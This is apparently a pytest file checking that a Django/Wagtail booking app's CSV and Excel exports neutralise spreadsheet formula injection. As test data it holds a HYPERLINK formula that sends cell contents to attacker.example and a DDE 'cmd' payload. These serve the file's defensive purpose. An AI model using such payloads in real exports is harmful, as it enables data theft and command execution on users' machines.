"""No export hands a spreadsheet a formula: a patient named like one arrives as text, in
the CSV and in the Excel file, in the Bookings lists and in Wagtail's own reports."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.log_actions import log

from booking.phone import phone_display
from practice.spreadsheets import cell_neutralised
from tests.clock import local
from tests.factories.bookings import book, details

from .shared import MONDAY

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://attacker.example/?"&C2&C3,"Details")'


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_cells(response) -> list[str]:
    rows = csv.reader(io.StringIO(_body(response).decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(_body(response))).active
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]


@pytest.fixture
def hostile():
    return book(
        start=local(MONDAY, 10),
        patient=details(first_name=LINK, last_name="@SUM(1+1)", phone="+44 20 7946 0018"),
    )


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_every_formula_start_is_written_as_text(cell):
    assert cell_neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+15550100199", "-12.5", "Nora Quill", "", 5, None])
def test_numbers_phones_and_plain_text_are_left_as_they_are(cell):
    assert cell_neutralised(cell) == cell


def test_the_appointments_csv_and_excel_carry_a_formula_name_as_text(admin_client, hostile):
    index = reverse("booking_appointment:index")
    for cells in (
        _csv_cells(admin_client.get(index, {"export": "csv"})),
        _xlsx_cells(admin_client.get(index, {"export": "xlsx"})),
    ):
        assert f"'{LINK} @SUM(1+1)" in cells
        assert not any(isinstance(c, str) and c.startswith(("=", "@")) for c in cells)
        # A phone from abroad, written "+44 20 7946 0018" (a number kept for drama), is a
        # number, not a formula: left as it is.
        shown = phone_display(hostile.patient.phone)
        assert shown.startswith("+")
        assert shown in cells


def test_wagtails_own_reports_export_a_formula_name_as_text(admin_client, hostile):
    log(instance=hostile.patient, action="wagtail.edit")
    report = reverse("wagtailadmin_reports:site_history")
    for cells in (
        _csv_cells(admin_client.get(report, {"export": "csv"})),
        _xlsx_cells(admin_client.get(report, {"export": "xlsx"})),
    ):
        assert f"'{LINK} @SUM(1+1)" in cells
        assert not any(isinstance(c, str) and c.startswith("=") for c in cells)
